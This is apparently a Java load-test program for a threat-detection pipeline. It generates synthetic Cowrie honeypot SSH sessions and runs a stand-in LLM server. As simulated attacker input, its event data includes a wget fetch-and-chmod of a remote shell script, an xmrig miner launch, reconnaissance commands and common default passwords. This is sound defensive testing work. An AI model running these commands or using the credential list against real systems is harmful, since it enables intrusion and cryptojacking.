// Load scenario for the threat pipeline (issue 5), run by scripts/bench/threats.sh against a running Arena.
// A single-file Java program with no dependencies:
//   java ThreatsBench.java load <base-url> <seconds> <events-per-minute>   sustains Cowrie-like events from
//        many source addresses through POST /v1/projects/{p}/threats/events (NDJSON batches), waits until the
//        pipeline drained its queue, and prints "BENCH key value" lines: events accepted and stored, rates,
//        429s, and p50/p99 from ingest to decision (the arena.threats.decision histogram, two scrapes apart)
//   java ThreatsBench.java standin <port> <delay-ms | never>   a chat-completions stand-in for the LLM analyst
//        that answers after the delay, or holds every request open and never answers
import com.sun.net.httpserver.HttpServer;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.Executors;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.atomic.AtomicLong;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

public class ThreatsBench {

    static final HttpClient HTTP = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(5)).build();
    static final int BATCH = Integer.getInteger("batch", 200);
    static final int SENDERS = Integer.getInteger("senders", 4);
    static final String[] USERS = {"root", "admin", "ubuntu", "test", "oracle", "pi", "user", "git", "postgres", "support"};
    static final String[] PASSWORDS = {"123456", "password", "admin", "root", "12345678", "qwerty", "1q2w3e4r", "raspberry", "toor", "111111"};
    static String base;

    public static void main(String[] args) throws Exception {
        switch (args[0]) {
            case "load" -> load(args[1], Integer.parseInt(args[2]), Long.parseLong(args[3]));
            case "standin" -> standIn(Integer.parseInt(args[1]), args[2]);
            default -> throw new IllegalArgumentException("load | standin");
        }
    }

    // --- the load ------------------------------------------------------------------------------------------

    static void load(String url, int seconds, long perMinute) throws Exception {
        base = url;
        String email = "bench-" + System.nanoTime() + "@example.test";
        send("POST", "/v1/auth/register", null, "{\"email\":\"" + email + "\",\"password\":\"correct horse battery\",\"displayName\":\"bench\"}");
        String session = field(send("POST", "/v1/auth/login", null,
                "{\"email\":\"" + email + "\",\"password\":\"correct horse battery\",\"client\":\"cli\"}").body(), "token");
        String org = field(send("POST", "/v1/orgs", session, "{\"name\":\"bench\"}").body(), "id");
        String project = field(send("POST", "/v1/orgs/" + org + "/projects", session, "{\"name\":\"bench\"}").body(), "id");
        String writer = field(send("POST", "/v1/orgs/" + org + "/projects/" + project + "/tokens", session, "{\"role\":\"writer\"}").body(),
                "access_token");
        String events = "/v1/projects/" + project + "/threats/events";

        // Warm-up (not reported): the JIT, the project's forest past its warm-up, the connections.
        Sender warm = new Sender(events, writer, 60_000, 0);
        warm.run(Instant.now().plusSeconds(Math.min(10, seconds / 3)));
        drain();

        String scrapedBefore = scrape();
        Map<Double, Double> before = histogram(scrapedBefore, "decision");
        Map<Double, Double> storedHistogramBefore = histogram(scrapedBefore, "stored");
        long storedBefore = stored(project, session);
        long start = System.nanoTime();
        Instant end = Instant.now().plusSeconds(seconds);
        List<Sender> senders = new ArrayList<>();
        CountDownLatch done = new CountDownLatch(SENDERS);
        for (int i = 0; i < SENDERS; i++) {
            Sender s = new Sender(events, writer, perMinute / SENDERS, i + 1);
            senders.add(s);
            Thread.ofPlatform().start(() -> {
                try {
                    s.run(end);
                } finally {
                    done.countDown();
                }
            });
        }
        done.await();
        double sent = (System.nanoTime() - start) / 1e9;
        long drainMillis = drain();
        double processed = (System.nanoTime() - start) / 1e9;
        String scrapedAfter = scrape();
        Map<Double, Double> after = histogram(scrapedAfter, "decision");
        Map<Double, Double> storedHistogramAfter = histogram(scrapedAfter, "stored");
        long stored = stored(project, session) - storedBefore;
        long accepted = senders.stream().mapToLong(s -> s.accepted.get()).sum();
        long refused = senders.stream().mapToLong(s -> s.refused.get()).sum();
        long failed = senders.stream().mapToLong(s -> s.failed.get()).sum();
        long sources = senders.stream().mapToLong(s -> s.sessions).sum();

        out("target_events_per_min", perMinute);
        out("seconds", seconds);
        out("events_accepted", accepted);
        out("events_refused_429", refused);
        out("requests_failed", failed);
        out("sessions_sent", sources);
        out("accepted_per_min", Math.round(accepted / sent * 60));
        out("events_stored", stored);
        out("processed_per_min", Math.round(stored / processed * 60));
        out("drain_ms", drainMillis);
        out("decision_p50_ms", quantile(before, after, 0.50));
        out("decision_p99_ms", quantile(before, after, 0.99));
        out("decision_count", Math.round(count(after) - count(before)));
        out("stored_p50_ms", quantile(storedHistogramBefore, storedHistogramAfter, 0.50));
        out("stored_p99_ms", quantile(storedHistogramBefore, storedHistogramAfter, 0.99));
    }

    /** One sender: NDJSON batches of {@link #BATCH} events at its share of the rate; a 429 waits its Retry-After. */
    static final class Sender {
        final String path;
        final String token;
        final long perMinute;
        final int lane;
        final AtomicLong accepted = new AtomicLong();
        final AtomicLong refused = new AtomicLong();
        final AtomicLong failed = new AtomicLong();
        long sessions;
        int next;

        Sender(String path, String token, long perMinute, int lane) {
            this.path = path;
            this.token = token;
            this.perMinute = perMinute;
            this.lane = lane;
        }

        void run(Instant end) {
            long start = System.nanoTime();
            long sentEvents = 0;
            while (Instant.now().isBefore(end)) {
                String body = batch();
                long due = start + (long) (sentEvents * 60e9 / perMinute);
                long wait = due - System.nanoTime();
                if (wait > 0) {
                    sleep(wait / 1_000_000);
                }
                try {
                    HttpResponse<String> response = HTTP.send(HttpRequest.newBuilder(URI.create(base + path))
                            .header("Authorization", "Bearer " + token).header("Content-Type", "application/x-ndjson")
                            .timeout(Duration.ofSeconds(30)).POST(HttpRequest.BodyPublishers.ofString(body)).build(),
                            HttpResponse.BodyHandlers.ofString());
                    if (response.statusCode() == 202) {
                        accepted.addAndGet(Long.parseLong(field(response.body(), "accepted")));
                    } else if (response.statusCode() == 429) {
                        refused.addAndGet(BATCH);
                        sleep(1000L * Long.parseLong(response.headers().firstValue("Retry-After").orElse("1")));
                    } else {
                        failed.incrementAndGet();
                        System.err.println("ingest answered " + response.statusCode() + ": " + response.body());
                    }
                } catch (Exception e) {
                    failed.incrementAndGet();
                    System.err.println("ingest failed: " + e);
                }
                sentEvents += BATCH;
            }
        }

        /**
         * A batch of Cowrie events: whole sessions from addresses of 198.18.0.0/15 (the benchmarking range; 130,000
         * addresses shared by the senders, and the warm-up's own 198.19.255.0/24). 80 % scan and guess passwords, 15 % get in and
         * look around, 5 % download and start a miner.
         */
        String batch() {
            StringBuilder out = new StringBuilder(BATCH * 260);
            int events = 0;
            ThreadLocalRandom random = ThreadLocalRandom.current();
            while (events < BATCH) {
                int n = lane == 0 ? 0x1FF00 + (next++ & 0xFF) : (next++ * SENDERS + lane - 1) % 130_000;
                String ip = "198." + (18 + (n >> 16)) + "." + ((n >> 8) & 255) + "." + (n & 255);
                String id = Long.toHexString(random.nextLong() & 0xFFFFFFFFFFFFL);
                Instant at = Instant.now();
                int kind = random.nextInt(100);
                List<String> lines = new ArrayList<>(24);
                lines.add(cowrie("cowrie.session.connect", ip, id, at, "\"src_port\":" + (30000 + random.nextInt(30000)) + ",\"dst_port\":22,\"protocol\":\"ssh\""));
                lines.add(cowrie("cowrie.client.version", ip, id, at, "\"version\":\"SSH-2.0-Go\""));
                int failures = 1 + random.nextInt(kind < 80 ? 8 : 4);
                for (int i = 0; i < failures; i++) {
                    lines.add(cowrie("cowrie.login.failed", ip, id, at, "\"username\":\"" + USERS[random.nextInt(USERS.length)]
                            + "\",\"password\":\"" + PASSWORDS[random.nextInt(PASSWORDS.length)] + "\""));
                }
                if (kind >= 80) {
                    lines.add(cowrie("cowrie.login.success", ip, id, at, "\"username\":\"root\",\"password\":\"admin\""));
                    lines.add(cowrie("cowrie.command.input", ip, id, at, "\"input\":\"uname -a\""));
                    lines.add(cowrie("cowrie.command.input", ip, id, at, "\"input\":\"cat /proc/cpuinfo | grep name | wc -l\""));
                }
                if (kind >= 95) {
                    String file = "http://198.51.100." + random.nextInt(1, 255) + "/x" + random.nextInt(100) + ".sh";
                    lines.add(cowrie("cowrie.command.input", ip, id, at, "\"input\":\"cd /tmp; wget " + file + "; chmod +x x.sh\""));
                    lines.add(cowrie("cowrie.session.file_download", ip, id, at, "\"url\":\"" + file
                            + "\",\"shasum\":\"" + "ab".repeat(32) + "\",\"outfile\":\"var/lib/cowrie/downloads/x\""));
                    lines.add(cowrie("cowrie.command.input", ip, id, at, "\"input\":\"./xmrig -o stratum+tcp://pool:3333\""));
                }
                lines.add(cowrie("cowrie.session.closed", ip, id, at, "\"duration\":" + random.nextInt(1, 60)));
                for (String line : lines) {
                    out.append(line).append('\n');
                }
                events += lines.size();
                sessions++;
            }
            return out.toString();
        }
    }

    static String cowrie(String eventId, String ip, String session, Instant at, String extra) {
        return "{\"eventid\":\"" + eventId + "\",\"src_ip\":\"" + ip + "\",\"session\":\"" + session + "\",\"sensor\":\"bench-1\",\"timestamp\":\""
                + at + "\"," + extra + "}";
    }

    /** Waits until the pipeline's queue is empty; returns how long it took. */
    static long drain() throws Exception {
        long start = System.nanoTime();
        long deadline = start + Duration.ofMinutes(10).toNanos();
        while (System.nanoTime() < deadline) {
            Matcher m = Pattern.compile("(?m)^arena_threats_queue_depth\\S* (\\S+)$").matcher(scrape());
            if (m.find() && Double.parseDouble(m.group(1)) == 0) {
                return (System.nanoTime() - start) / 1_000_000;
            }
            sleep(100);
        }
        throw new IllegalStateException("the pipeline did not drain its queue in 10 minutes");
    }

    /** Events stored for the project (its per-minute counts over the last day). */
    static long stored(String project, String session) throws Exception {
        return Long.parseLong(field(send("GET", "/v1/projects/" + project + "/threats/summary?minutes=1440", session, null).body(), "events"));
    }

    static String scrape() throws Exception {
        return send("GET", "/metrics", null, null).body();
    }

    /** The cumulative buckets of the timer arena.threats.{@code timer} (decision, stored): upper bound in seconds to count. */
    static Map<Double, Double> histogram(String metrics, String timer) {
        Map<Double, Double> buckets = new TreeMap<>();
        Matcher m = Pattern.compile("(?m)^arena_threats_" + timer + "_seconds_bucket\\{[^}]*le=\"([^\"]+)\"[^}]*} (\\S+)$").matcher(metrics);
        while (m.find()) {
            double le = m.group(1).equals("+Inf") ? Double.POSITIVE_INFINITY : Double.parseDouble(m.group(1));
            buckets.merge(le, Double.parseDouble(m.group(2)), Double::sum);
        }
        return buckets;
    }

    static double count(Map<Double, Double> buckets) {
        return buckets.getOrDefault(Double.POSITIVE_INFINITY, 0.0);
    }

    /** The upper bound (ms) of the bucket the quantile of the events between two scrapes falls in. */
    static String quantile(Map<Double, Double> before, Map<Double, Double> after, double q) {
        double total = count(after) - count(before);
        if (total <= 0) {
            return "n/a";
        }
        for (var bucket : after.entrySet()) {
            if (bucket.getValue() - before.getOrDefault(bucket.getKey(), 0.0) >= q * total) {
                return bucket.getKey().isInfinite() ? "inf" : String.format("%.1f", bucket.getKey() * 1000);
            }
        }
        return "n/a";
    }

    // --- the LLM stand-in ------------------------------------------------------------------------------------

    static void standIn(int port, String delay) throws Exception {
        HttpServer server = HttpServer.create(new InetSocketAddress("127.0.0.1", port), 0);
        server.setExecutor(Executors.newVirtualThreadPerTaskExecutor());
        AtomicLong asked = new AtomicLong();
        server.createContext("/v1/chat/completions", exchange -> {
            exchange.getRequestBody().readAllBytes();
            long n = asked.incrementAndGet();
            System.out.println("stand-in: asked " + n + " times");
            // "never": hold the request open (the analyst gives up after its timeout).
            sleep(delay.equals("never") ? Long.MAX_VALUE : Long.parseLong(delay));
            byte[] body = ("{\"id\":\"chatcmpl-bench\",\"object\":\"chat.completion\",\"model\":\"stand-in\",\"choices\":[{\"index\":0,"
                    + "\"finish_reason\":\"stop\",\"message\":{\"role\":\"assistant\",\"content\":\"A stand-in analysis.\"}}]}")
                    .getBytes(StandardCharsets.UTF_8);
            exchange.getResponseHeaders().add("Content-Type", "application/json");
            exchange.sendResponseHeaders(200, body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
        });
        server.start();
        System.out.println("stand-in: listening on " + port + ", answering " + (delay.equals("never") ? "never" : "after " + delay + " ms"));
        Thread.currentThread().join();
    }

    // --- HTTP ----------------------------------------------------------------------------------------------------

    static HttpResponse<String> send(String method, String path, String bearer, String body) throws Exception {
        var request = HttpRequest.newBuilder(URI.create(base + path)).timeout(Duration.ofSeconds(30))
                .method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofString(body));
        if (body != null) {
            request.header("Content-Type", "application/json");
        }
        if (bearer != null) {
            request.header("Authorization", "Bearer " + bearer);
        }
        HttpResponse<String> response = HTTP.send(request.build(), HttpResponse.BodyHandlers.ofString());
        if (response.statusCode() >= 400) {
            throw new IllegalStateException(method + " " + path + " answered " + response.statusCode() + ": " + response.body());
        }
        return response;
    }

    static String field(String json, String name) {
        Matcher m = Pattern.compile("\"" + name + "\"\\s*:\\s*\"?([^\",}]*)").matcher(json);
        if (!m.find()) {
            throw new IllegalStateException("no " + name + " in " + json);
        }
        return m.group(1);
    }

    static void out(String key, Object value) {
        System.out.println("BENCH " + key + " " + value);
    }

    static void sleep(long millis) {
        try {
            Thread.sleep(millis);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }
}
